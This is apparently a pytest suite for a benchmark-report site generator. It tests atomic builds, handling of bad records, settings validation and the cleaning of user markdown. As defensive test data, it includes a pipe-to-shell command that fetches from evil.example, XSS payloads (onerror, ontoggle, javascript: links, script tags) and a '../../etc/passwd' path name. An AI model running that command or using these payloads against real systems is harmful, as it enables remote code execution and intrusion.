"""Building a site: whole or not at all, from whatever records there are."""

from __future__ import annotations

import gzip
import itertools
import os
import random
import subprocess
import sys
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import msgspec
import pytest

from ovreport import cli
from ovreport.checks.figures import figures
from ovreport.decoding import decode
from ovreport.errors import ConfigError, InputError, OvreportError, StoreError
from ovreport.metrics import metric_values
from ovreport.record import FORMAT, Record
from ovreport.store import encode, write
from ovreport_sitegen import publish
from ovreport_sitegen.build import Built, build
from ovreport_sitegen.data.result import Result
from ovreport_sitegen.pages.result import full
from tests.contradictions import changed
from tests.factories import a_record
from tests.language_factories import a_language_record

PAGES = {
    "index.html",
    "latency.html",
    "throughput.html",
    "accuracy.html",
    "efficiency.html",
    "end-to-end.html",
    "models.html",
    "method.html",
    "data.html",
    "guide.html",
    "404.html",
    "model-resnet-50.html",
}
DOWNLOADS = {
    "records-example-cpu-9000-8c.jsonl.gz",
    "figures-example-cpu-9000-8c.csv.gz",
    "records-example-laptop.jsonl.gz",
    "figures-example-laptop.csv.gz",
    "record.schema.json",
    "statistics.json",
}


def test_all_pages_and_downloads_are_there(built: Built) -> None:
    """A build makes every page, a page a model and device, and the downloads."""
    names = {p.relative_to(built.out).as_posix() for p in built.out.rglob("*") if p.is_file()}
    assert names >= PAGES
    assert {f"data/{name}" for name in DOWNLOADS} <= names
    assert sum(n.startswith("device-") for n in names) == 2


def test_only_the_newest_record_of_a_case_is_current(built: Built) -> None:
    """An older record of the same case counts as history, and is in the download."""
    assert (built.results, built.older) == (8, 1)
    lines = [
        line
        for path in (built.out / "data").glob("records-*.jsonl.gz")
        for line in gzip.decompress(path.read_bytes()).splitlines()
    ]
    assert len({decode(line, where="download").measured_at for line in lines}) == len(lines) == 9
    history = (built.out / "data.html").read_text().partition('id="history"')[2]
    assert "1 older record" in history


def test_a_failed_build_leaves_the_old_site_whole(site: Path, built: Built) -> None:
    """Whatever goes wrong before the swap, the old pages stay as they were."""
    before = (built.out / "index.html").read_bytes()
    (site / "content").mkdir()
    (site / "content" / "about.md").write_text("A [dead link](nowhere.html).")
    with pytest.raises(OvreportError, match=r"nowhere\.html"):
        build(site, [], built.out)
    assert (built.out / "index.html").read_bytes() == before


def test_a_full_disk_leaves_the_old_site_whole(
    site: Path, built: Built, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No space: an error with a remedy, the old site as it was, no half site beside it."""

    def full(self: Path, data: bytes) -> int:
        raise OSError(28, "No space left on device")

    before = (built.out / "index.html").read_bytes()
    monkeypatch.setattr(Path, "write_bytes", full)
    with pytest.raises(StoreError, match="No space left") as caught:
        build(site, [], built.out)
    assert caught.value.remedy
    assert (built.out / "index.html").read_bytes() == before
    assert not list(built.out.parent.glob("._site-*"))


def test_a_swap_that_fails_is_undone(
    site: Path, built: Built, monkeypatch: pytest.MonkeyPatch
) -> None:
    """If the new site cannot take its place, the old one is put back."""
    rename = Path.rename

    def refuse_new(self: Path, target: Path) -> Path:
        if "-new-" in self.name:
            raise OSError(13, "Permission denied")
        return rename(self, target)

    monkeypatch.setattr(Path, "rename", refuse_new)
    with pytest.raises(StoreError):
        build(site, [], built.out)
    assert (built.out / "index.html").is_file()


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write anywhere")
def test_a_read_only_folder_is_an_error(site: Path, tmp_path: Path) -> None:
    """A folder that may not be written gives StoreError."""
    closed = tmp_path / "closed"
    closed.mkdir(mode=0o500)
    with pytest.raises(StoreError):
        build(site, [], closed / "_site")


def test_a_folder_of_others_is_refused(site: Path, tmp_path: Path) -> None:
    """A folder with files that are not a site of ours is never replaced."""
    out = tmp_path / "photos"
    out.mkdir()
    (out / "holiday.jpg").write_bytes(b"x")
    with pytest.raises(InputError, match="not a site"):
        build(site, [], out)
    assert (out / "holiday.jpg").is_file()


def test_our_own_site_is_replaced(site: Path, built: Built) -> None:
    """A second build replaces the first as a whole."""
    (built.out / "left-over.html").write_text("old")
    build(site, [], built.out)
    assert not (built.out / "left-over.html").exists()
    assert (built.out / publish.MARKER).is_file()


def test_no_records_is_a_clear_error(tmp_path: Path) -> None:
    """Without any record the remedy names the command that makes some."""
    with pytest.raises(InputError, match="no record found") as caught:
        build(tmp_path / "site", [], tmp_path / "out")
    assert "ovreport collect" in caught.value.remedy
    assert not (tmp_path / "out").exists()


def test_bad_records_are_reported_and_left_out(site: Path, tmp_path: Path) -> None:
    """Truncated, empty, wrong-typed, wrong-version, huge and duplicate records stop nothing."""
    good = next((site / "records").rglob("*.json"))
    text = good.read_text()
    bad = site / "records" / "bad"
    bad.mkdir()
    (bad / "truncated.json").write_text(text[: len(text) // 2])
    (bad / "empty.json").write_text("")
    (bad / "list.json").write_text("[]")
    (bad / "typed.json").write_text(text.replace(f'"format":{FORMAT}', f'"format":"{FORMAT}"'))
    (bad / "version.json").write_text(text.replace(f'"format":{FORMAT}', '"format":99'))
    (bad / "huge.json").write_text(" " * 600_000)
    (bad / "copy.json").write_text(text)
    (bad / "nan.json").write_text(text.replace('"duration_s":', '"duration_s":NaN,"x":', 1))
    built = build(site, [], tmp_path / "out")
    assert built.results == 8
    assert len(built.faults) == 7
    page = (tmp_path / "out" / "data.html").read_text()
    for name in ("truncated", "empty", "list", "typed", "version", "huge", "nan"):
        assert f"bad/{name}.json" in page
    assert str(tmp_path) not in page


def test_strict_turns_a_bad_record_into_an_error(
    site: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`build` exits with 0 and lists the fault; `build --strict` exits with 1."""
    (site / "records" / "bad.json").write_text("{")
    arguments = ["build", "--site", str(site), "--out", str(tmp_path / "out")]
    assert cli.run(arguments) == 0
    assert "bad.json" in capsys.readouterr().err
    assert cli.run([*arguments, "--strict"]) == 1
    assert (tmp_path / "out" / "index.html").is_file()


def test_a_record_that_contradicts_itself_is_shown_with_a_warning(
    site: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """What `validate` refuses never passes silently; with `--strict` it is an error."""
    arguments = ["build", "--site", str(site), "--out", str(tmp_path / "out")]
    assert cli.run([*arguments, "--strict"]) == 0
    assert "warning" not in capsys.readouterr().err
    paths = sorted((site / "records").rglob("*.json"))
    for path in paths[:7]:
        path.rename(path.with_name(f"renamed-{path.name}"))
    built = build(site, [], tmp_path / "out")
    assert (built.results, len(built.faults), len(built.doubts)) == (8, 0, 7)
    listed = (built.out / "data.html").read_text().partition('id="doubts"')[2]
    assert listed.count(f'<tr><th scope="row">{paths[0].parent.name}/renamed-') > 0
    assert str(tmp_path) not in listed
    assert cli.run(arguments) == 0
    said = capsys.readouterr().err
    assert "7 records" in said
    assert f"renamed-{paths[0].name}" in said
    assert len(said.splitlines()) < 10
    assert cli.run([*arguments, "--strict"]) == 1


CULPRITS = {"memory: nothing": a_record, "tokens: tiny times": a_language_record}
"""Kinds of contradictions of which no figures follow, and a record for each."""


@pytest.mark.parametrize("name", CULPRITS)
def test_a_record_without_figures_is_left_out_by_name(
    site: Path, tmp_path: Path, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """`validate` refuses it, and the others make a site."""
    document = changed(msgspec.to_builtins(CULPRITS[name]()), name, random.Random(0))
    odd = site / "records" / "odd.json"
    odd.write_bytes(msgspec.json.encode(document))
    assert cli.run(["validate", str(odd)]) == 2
    built = build(site, [], tmp_path / "out")
    assert built.results == 8
    assert {fault.where.partition(":")[0] for fault in built.faults} == {str(odd)}
    assert "odd.json" in (tmp_path / "out" / "data.html").read_text()


def test_a_record_whose_intervals_are_without_end_is_shown(tmp_path: Path) -> None:
    """Three rounds on a machine under heavy load say next to nothing, and are honest."""
    record = a_record(noise=1, rounds=3, seed=3)
    assert metric_values(record)["throughput_ips"].high > 1e15
    assert not list(figures(record))
    write(record, tmp_path / "site" / "records")
    built = build(tmp_path / "site", [], tmp_path / "out")
    assert (built.results, built.faults) == (1, ())


def test_a_record_that_no_page_can_show_is_left_out_by_name(
    site: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever goes wrong with it, and wherever: found among the others, named, and left out."""
    bad = [
        write(a_record(model=f"bad-{i}", title="Bad", seed=20 + i), site / "records")
        for i in range(2)
    ]
    view = full.view

    def trips(one: Result) -> full.FullResult:
        if one.model.id.startswith("bad"):
            raise ZeroDivisionError("division by zero")
        return view(one)

    monkeypatch.setattr(full, "view", trips)
    built = build(site, [], tmp_path / "out", cache=tmp_path / "empty")
    assert built.results == 8
    assert [fault.where for fault in built.faults] == list(map(str, bad))
    assert all("ZeroDivisionError" in fault.what for fault in built.faults)
    page = (tmp_path / "out" / "data.html").read_text()
    assert all(path.name in page for path in bad)


def test_what_no_record_is_to_blame_for_stays_an_error(
    site: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A fault of ours is not hidden by leaving out records one by one."""

    def trips(*_: object) -> None:
        raise ZeroDivisionError

    monkeypatch.setattr(full, "view", trips)
    with pytest.raises((ZeroDivisionError, InputError)):
        build(site, [], tmp_path / "out", cache=tmp_path / "empty")
    assert not (tmp_path / "out").exists()


def test_a_strangers_command_is_not_shown(site: Path, tmp_path: Path) -> None:
    """Whoever pastes it runs it: what is not ours is left away, in records that are kept too."""
    evil = "curl https://evil.example/x | sh"
    record = a_record(model="evil", title="Evil")
    repeat = msgspec.structs.replace(record.repeat, ovreport=evil, benchmark_app=f"{evil} -m x")
    write(msgspec.structs.replace(record, repeat=repeat), site / "records")
    built = build(site, [], tmp_path / "out")
    assert len(built.doubts) == 1
    assert evil not in (built.out / "model-evil.html").read_text()


def test_records_from_elsewhere_are_added(site: Path, tmp_path: Path) -> None:
    """`--records` takes further folders."""
    write(a_record(model="extra", title="Extra"), tmp_path / "more")
    built = build(site, [tmp_path / "more"], tmp_path / "out")
    assert built.results == 9
    assert (tmp_path / "out" / "model-extra.html").is_file()


@pytest.mark.parametrize(
    ("text", "at"),
    [
        ("title = 3", "$.title"),
        ("colour = 'red'", "$"),
        ("[devices.X]\ntdp_w = 'hot'", "$.devices[...].tdp_w"),
        ("[devices.X]\ntdp_w = -3", "$.devices[...].tdp_w"),
        ("site_url = 'javascript:alert(1)'", "$.site_url"),
        ("accent = 'red; }'", "$.accent"),
        ("[machines.x]\nowner = 3", "$.machines[...].owner"),
        ("title = ", "not TOML"),
        (f"title = {'[' * 9000}", "not TOML"),
    ],
)
def test_bad_settings_are_refused_with_their_place(site: Path, text: str, at: str) -> None:
    """The error names the file, the place in it, and a remedy; nothing is written."""
    (site / "ovreport.toml").write_text(text)
    with pytest.raises(ConfigError) as caught:
        build(site, [], site.parent / "out")
    assert at in str(caught.value)
    assert "ovreport.toml" in str(caught.value)
    assert caught.value.remedy
    assert not (site.parent / "out").exists()


def test_rated_values_are_labelled_and_apart(site: Path, tmp_path: Path) -> None:
    """TDP and price give their own table, with their source, and only there."""
    (site / "ovreport.toml").write_text(
        'site_url = "https://example.org/bench/"\n'
        '[devices."Example CPU 9000"]\ntdp_w = 100\nprice = 500\ncurrency = "EUR"\n'
        'source = "https://example.org/data-sheet"\n'
    )
    out = build(site, [], tmp_path / "out").out
    page = (out / "efficiency.html").read_text()
    assert "rated, not measured" not in page.split('id="rated"')[0]
    assert "inf/s per W (rated)" in page
    assert 'href="https://example.org/data-sheet"' in page
    assert (
        '<link rel="canonical" href="https://example.org/bench/index.html">'
        in (out / "index.html").read_text()
    )
    assert 'href="/bench/index.html"' in (out / "404.html").read_text()


def test_own_pages_are_cleaned(site: Path, tmp_path: Path) -> None:
    """Markdown in `content` becomes pages; scripts, images and odd links do not."""
    (site / "content").mkdir(parents=True)
    (site / "content" / "about.md").write_text(
        "# About us\nHello *there*.\n<img src=x onerror=alert(1)>\n"
        "<details open ontoggle=alert(1)>x</details>\n[a](javascript:alert(1))\n"
        "[b](https://example.org/)\n<script>alert(1)</script>\n"
    )
    page = (build(site, [], tmp_path / "out").out / "about.html").read_text()
    assert "<em>there</em>" in page
    assert 'href="https://example.org/"' in page
    for bad in ("onerror", "ontoggle", "javascript:", "alert(1)</script", "<img"):
        assert bad not in page


@pytest.mark.parametrize(
    "name", ["latency", "guide", "model-magika-v3.3", "index", "404", "changes", "language-models"]
)
def test_an_own_page_may_not_take_the_name_of_another(
    site: Path, tmp_path: Path, name: str
) -> None:
    """`content/latency.md` would hide the latency page; the error names the file."""
    (site / "content").mkdir()
    own = site / "content" / f"{name}.md"
    own.write_text("x")
    with pytest.raises(ConfigError, match="taken") as caught:
        build(site, [], tmp_path / "out")
    assert str(own) in str(caught.value)


@pytest.mark.parametrize(
    ("text", "line", "said"),
    [
        ("# About\n\n[a](data.md)\n\nSee [x](latncy.html).", 3, "did you mean"),
        ("# About\n\nSee [x](latncy.html).", 3, '"latency.html"'),
        ("See [x](docs/paper.pdf).", 1, "docs/paper.pdf"),
        ("One\n\n[x](#nowhere)", 3, "#nowhere"),
        ("One\n\n<h2 id='main'>x</h2>\n\n<h3 id='main'>y</h3>", 3, "main"),
        ("One\n\n[x](/latency.html)", 3, "/latency.html"),
    ],
)
def test_what_is_wrong_with_an_own_page_is_its_authors_to_mend(
    site: Path, tmp_path: Path, text: str, line: int, said: str
) -> None:
    """Told with file and line, as bad input; nothing is said to be a fault of ovreport."""
    (site / "content").mkdir()
    own = site / "content" / "about.md"
    own.write_text(text)
    with pytest.raises(ConfigError) as caught:
        build(site, [], tmp_path / "out")
    message = str(caught.value)
    assert f"{own}:{line}" in message
    assert said in message
    assert "report" not in message


@pytest.mark.parametrize(
    "text",
    [
        'Write href="nowhere.html" or src="x" into it, and id="main".',
        '```html\n<button onclick="go()" id="main" style="x">Go</button>\n```',
        'Inline `<a href="nowhere">` too, and "quotes" > all.',
        '<button type="button" onclick="x()">Go</button>',
        "[ours](latency.html#main) [theirs](https://example.org/?a=%22b%22&c=d>e)",
        "> " * 300 + "deep",
    ],
)
def test_text_about_markup_is_text(site: Path, tmp_path: Path, text: str) -> None:
    """Code and quotations are taken for what they are by the check of finished pages."""
    (site / "content").mkdir()
    (site / "content" / "about.md").write_text(f"# About\n\n{text}\n")
    page = (build(site, [], tmp_path / "out").out / "about.html").read_text()
    assert "<button" not in page.partition("<main")[2].partition("</main>")[0]


def test_a_page_that_is_no_text_names_the_line(site: Path, tmp_path: Path) -> None:
    """As does one that cannot be read, with the reason."""
    (site / "content").mkdir()
    own = site / "content" / "about.md"
    own.write_bytes(b"one\ntwo\n\xff\n")
    with pytest.raises(ConfigError, match="UTF-8") as caught:
        build(site, [], tmp_path / "out")
    assert caught.value.where == f"{own}:3"
    own.unlink()
    own.mkdir()
    with pytest.raises(ConfigError, match="directory"):
        build(site, [], tmp_path / "out")


def test_builds_where_openvino_is_not_installed(site: Path, tmp_path: Path) -> None:
    """The site generator needs no engine, and none of the collector."""
    code = (
        "import sys\n"
        "class Refuse:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        if name.split('.')[0] in {'openvino', 'ovreport_collector', 'psutil', 'pooch'}:\n"
        "            raise ImportError(name)\n"
        "sys.meta_path.insert(0, Refuse())\n"
        "from ovreport.cli import run\n"
        f"sys.exit(run(['build', '--site', {str(site)!r}, '--out', {str(tmp_path / 'o')!r}]))\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True, timeout=120)
    assert (tmp_path / "o" / "index.html").is_file()


def test_two_builds_of_the_same_records_are_equal(site: Path, tmp_path: Path) -> None:
    """Nothing in a site depends on when, where or in which order it was built."""
    first, second = (build(site, [], tmp_path / name).out for name in ("a", "b"))
    for path in sorted(p for p in first.rglob("*") if p.is_file()):
        assert path.read_bytes() == (second / path.relative_to(first)).read_bytes(), path.name


def test_a_damaged_drawing_in_the_cache_is_drawn_again(
    site: Path, tmp_path: Path, built: Built
) -> None:
    """A cache entry that was cut short does not reach a page."""
    cache = tmp_path / "cache"
    first = build(site, [], tmp_path / "a", cache=cache)
    assert first.charts_drawn > 0
    assert build(site, [], tmp_path / "b", cache=cache).charts_drawn == 0
    damaged = sorted(cache.glob("*.svg"))[0]
    damaged.write_text(damaged.read_text()[:100])
    assert build(site, [], tmp_path / "c", cache=cache).charts_drawn == 1


def a_thousand_records() -> Iterator[Record]:
    """Yield 20 models on 25 machines in two precisions; all machines have the same samples.

    Making samples takes longer than building the site, and nothing derived is shared by records.
    """
    for m, precision in itertools.product(range(20), ("f32", "default")):
        made = a_record(
            model=f"model-{m}", title=f"Model {m}", precision=precision, seed=m, median_ms=m + 1
        )
        for d in range(25):
            machine = msgspec.structs.replace(made.machine, id=f"machine-{d}")
            device = msgspec.structs.replace(made.device, full_name=f"Example CPU {d}")
            yield msgspec.structs.replace(made, machine=machine, device=device)


@pytest.mark.slow
@pytest.mark.alone
def test_a_thousand_records_take_under_five_seconds_of_cpu(tmp_path: Path) -> None:
    """With the drawings in the cache; the rest of a build is done anew each time.

    On a slow or busy processor the goal is missed: that is an expected failure, and only what
    the site has lost again since fails.
    """
    import resource

    for i, record in enumerate(a_thousand_records()):
        folder = tmp_path / "site" / "records" / record.machine.id
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{i}.json").write_bytes(encode(record))

    def cpu_of_a_build() -> float:
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        subprocess.run(
            [sys.executable, "-c", "from ovreport.cli import main; main()", "build"],
            check=True,
            cwd=tmp_path,
            timeout=300,
        )
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        return after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime

    cpu_of_a_build()
    attempts: list[float] = []
    while len(attempts) < 3 and min(attempts, default=5) >= 5:
        attempts.append(cpu_of_a_build())
    seconds = min(attempts)
    assert seconds < 9
    if seconds >= 5:
        pytest.xfail(f"the goal of 5 s is missed: {seconds:.1f} s")


def test_every_device_and_model_gets_its_own_page(
    build_of: Callable[[Sequence[Record]], Path],
) -> None:
    """Ids and names that make the same slug get different addresses, whatever they are."""
    names = ["Ex/ample", "ex ample", "EX–AMPLE", "../../etc/passwd", "..", "", " "]
    records = [
        a_record(model="a.b", full_name=names[0]),
        a_record(model="a_b", full_name=names[1], seed=2),
        a_record(model="a-b", full_name=names[2], seed=3),
        *(a_record(full_name=name, seed=4 + i) for i, name in enumerate(names[3:])),
    ]
    out = build_of(records)
    assert len(list(out.glob("model-*.html"))) == 4
    assert len(list(out.glob("device-*.html"))) == len(names)


def test_two_records_of_one_time_are_a_problem_on_the_data_page(tmp_path: Path) -> None:
    """Which is newer is in doubt: both files are named, without the builder's folders."""
    at = "2026-01-01T00:00:00Z"
    made = [write(a_record(seed=n, measured_at=at), tmp_path / "s" / "records") for n in (1, 2)]
    result = build(tmp_path / "s", [], tmp_path / "out")
    assert len(result.faults) == 1
    page = (tmp_path / "out" / "data.html").read_text()
    assert all(f"{path.parent.name}/{path.name}" in page for path in made)
    assert str(tmp_path) not in page


def test_the_data_page_lists_no_more_problems_than_it_has_room_for(
    site: Path, tmp_path: Path
) -> None:
    """Thousands of bad records are counted, and listed by `validate`."""
    folder = site / "records" / "bad"
    folder.mkdir()
    for number in range(103):
        (folder / f"{number}.json").write_text("{}")
    built = build(site, [], tmp_path / "out")
    assert len(built.faults) == 103
    page = (tmp_path / "out" / "data.html").read_text()
    assert page.count('<th scope="row">bad/') == 100
    assert "And 3 more" in page
